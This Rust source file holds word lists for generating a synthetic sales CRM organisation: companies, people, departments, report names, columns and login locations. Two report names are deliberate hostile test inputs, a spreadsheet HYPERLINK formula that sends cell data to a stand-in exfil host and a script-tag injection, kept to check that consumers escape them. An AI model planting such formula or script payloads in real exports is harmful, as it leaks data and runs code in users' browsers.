//! Word lists for a believable org: people, companies, departments, reports.

pub const COMPANIES: &[(&str, &str)] = &[
    ("Northwind Traders", "northwind-traders.example"),
    ("Contoso Outdoor", "contoso-outdoor.example"),
    ("Fabrikam Health", "fabrikam-health.example"),
    ("Tailspin Aviation", "tailspin-aviation.example"),
    ("Wingtip Logistics", "wingtip-logistics.example"),
    ("Adventure Works Cycles", "adventure-works.example"),
    ("Litware Analytics", "litware-analytics.example"),
    ("Proseware Financial", "proseware-financial.example"),
];

pub const FIRST_NAMES: &[&str] = &[
    "Olivia", "Liam", "Amara", "Noah", "Sofia", "Mateo", "Priya", "Ethan", "Chloé", "Lucas", "Yuki", "Oliver",
    "Fatima", "James", "Ingrid", "Kwame", "Elena", "Diego", "Aisha", "Henrik", "Mei", "Samuel", "Zoe", "Arjun",
    "Grace", "Tomás", "Leila", "Daniel", "Hannah", "Ravi", "Nora", "Gabriel", "Isabella", "Kenji", "Maya", "Omar",
    "Claire", "Viktor", "Ana", "Benjamin", "Lucía", "Sean", "Freya", "Marcus", "Anika", "Patrick", "Rosa", "Tobias",
    "Nadia", "Felix", "Chiara", "Jamal", "Elif", "Connor", "Sakura", "Andrés", "Margaux", "Rahul", "Emily", "Jonas",
];

pub const LAST_NAMES: &[&str] = &[
    "Smith",
    "Okafor",
    "García",
    "Nguyen",
    "Müller",
    "Patel",
    "Johansson",
    "O'Brien",
    "Kowalski",
    "Rossi",
    "Tanaka",
    "Dubois",
    "Silva",
    "Haddad",
    "Kim",
    "Novak",
    "Mensah",
    "Fischer",
    "Chen",
    "Moreau",
    "Andersen",
    "Lopez",
    "Ivanova",
    "Walsh",
    "Yilmaz",
    "Bianchi",
    "Sato",
    "Murphy",
    "Schmidt",
    "Costa",
    "Khan",
    "Larsen",
    "Brown",
    "Ferreira",
    "Nakamura",
    "Wilson",
    "Horvat",
    "Lindqvist",
    "Adeyemi",
    "Martin",
    "Reyes",
    "Kaur",
    "Becker",
    "Santos",
    "Jensen",
    "Park",
    "Dupont",
    "Eriksen",
    "Abdi",
    "Taylor",
    "Popescu",
    "Ito",
    "Romero",
    "Hughes",
    "Vargas",
    "Weber",
    "Baptiste",
    "Cohen",
    "Zhang",
    "MacLeod",
];

/// (department, profile name, titles)
pub const DEPARTMENTS: &[(&str, &str, &[&str])] = &[
    ("Sales", "Sales Representative", &["Account Executive", "Sales Development Rep", "Enterprise AE"]),
    ("Sales", "Sales Manager", &["Regional Sales Manager", "VP Sales", "Sales Director"]),
    ("Marketing", "Marketing User", &["Marketing Manager", "Demand Generation Lead", "Marketing Analyst"]),
    ("Customer Support", "Support Agent", &["Support Engineer", "Customer Success Manager", "Support Lead"]),
    ("Finance", "Finance Analyst", &["Financial Analyst", "Controller", "Revenue Accountant"]),
    ("Operations", "Standard User", &["Operations Specialist", "Project Coordinator", "Office Manager"]),
    ("Legal", "Read Only", &["Paralegal", "Contracts Manager"]),
    ("IT", "System Administrator", &["Salesforce Administrator", "IT Manager"]),
];

pub const REGIONS: &[&str] = &["AMER", "EMEA", "APAC"];

/// (report name, description, queried entities)
pub const REPORTS: &[(&str, &str, &str)] = &[
    ("Pipeline by Stage", "Open opportunities grouped by stage", "Opportunity"),
    ("Q3 Closed Won Opportunities", "Deals won this quarter", "Opportunity"),
    ("All Contacts with Email", "Every contact with an email address", "Contact"),
    ("Accounts by Annual Revenue", "Accounts sorted by revenue", "Account"),
    ("Open Cases by Priority", "Support backlog", "Case"),
    ("Leads Created This Month", "New leads, all sources", "Lead"),
    ("Customer Phone List", "Contacts with direct dials", "Contact,Account"),
    ("Top 100 Accounts", "Largest customers by ARR", "Account"),
    ("Renewals Next 90 Days", "Upcoming renewals", "Opportunity,Account"),
    ("Forecast by Rep", "Commit and best case per rep", "Opportunity,User"),
    ("Support SLA Breaches", "Cases past their SLA", "Case"),
    ("Campaign ROI", "Pipeline sourced per campaign", "Campaign,Opportunity"),
    ("Contacts without Activity", "Contacts untouched for 90 days", "Contact"),
    ("Enterprise Deal Desk", "Deals above 250k awaiting approval", "Opportunity,Account"),
    ("Partner Contacts Export", "Partner contacts for the channel team", "Contact,Account"),
    ("Lost Deals Analysis", "Closed lost with reasons", "Opportunity"),
    ("Customer Health Scores", "Health per account", "Account"),
    ("Churn Risk Accounts", "Accounts flagged at risk", "Account,Case"),
    ("Executive Contacts", "C-level contacts at customers", "Contact"),
    ("Quota Attainment", "Attainment per rep and region", "Opportunity,User"),
    ("Cases by Product", "Case volume per product", "Case"),
    ("Lead Conversion Funnel", "Lead to opportunity conversion", "Lead,Opportunity"),
    ("Weekly Bookings", "Bookings per week", "Opportunity"),
    ("Customer Master List", "All customer accounts with owners", "Account,User"),
    ("Marketing Qualified Leads", "MQLs awaiting follow-up", "Lead"),
    ("Contract Expirations", "Contracts ending this year", "Contract,Account"),
    ("Board Deck Metrics", "ARR, NRR and logo counts", "Opportunity,Account"),
    ("Competitor Mentions", "Opportunities naming a competitor", "Opportunity"),
    // Report names are chosen by Salesforce users: some are hostile on purpose, so
    // every consumer must escape them.
    ("=HYPERLINK(\"http://exfil.example/?d=\"&A1,\"Q4 Pipeline\")", "Spreadsheet formula in the name", "Opportunity"),
    ("<script>alert('tripline')</script> Contacts", "Markup in the name", "Contact"),
];

pub const COLUMNS: &[(&str, &[&str])] = &[
    ("Opportunity", &["Opportunity Name", "Account Name", "Amount", "Close Date", "Stage", "Owner"]),
    ("Contact", &["First Name", "Last Name", "Email", "Phone", "Title", "Mailing Country"]),
    ("Account", &["Account Name", "Industry", "Annual Revenue", "Billing Country", "Owner"]),
    ("Case", &["Case Number", "Subject", "Priority", "Status", "Contact Name"]),
    ("Lead", &["Name", "Company", "Email", "Lead Source", "Status"]),
    ("Campaign", &["Campaign Name", "Type", "Budgeted Cost", "Actual Cost"]),
    ("User", &["Full Name", "Role"]),
    ("Contract", &["Contract Number", "End Date", "Status"]),
];

/// Cities of logins: (city, country, ISO code, latitude, longitude).
pub const CITIES: &[(&str, &str, &str, f64, f64)] = &[
    ("San Francisco", "United States", "US", 37.77, -122.42),
    ("New York", "United States", "US", 40.71, -74.01),
    ("Chicago", "United States", "US", 41.88, -87.63),
    ("London", "United Kingdom", "GB", 51.51, -0.13),
    ("Dublin", "Ireland", "IE", 53.35, -6.26),
    ("Berlin", "Germany", "DE", 52.52, 13.40),
    ("Paris", "France", "FR", 48.86, 2.35),
    ("Singapore", "Singapore", "SG", 1.35, 103.82),
    ("Tokyo", "Japan", "JP", 35.68, 139.69),
    ("Sydney", "Australia", "AU", -33.87, 151.21),
    ("São Paulo", "Brazil", "BR", -23.55, -46.63),
    ("Toronto", "Canada", "CA", 43.65, -79.38),
];

pub const BROWSERS: &[&str] = &["Chrome 131", "Edge 131", "Firefox 133", "Safari 18", "Chrome 130"];
pub const PLATFORMS: &[&str] = &["Windows 11", "Mac OSX", "Windows 10", "Linux", "iOS"];
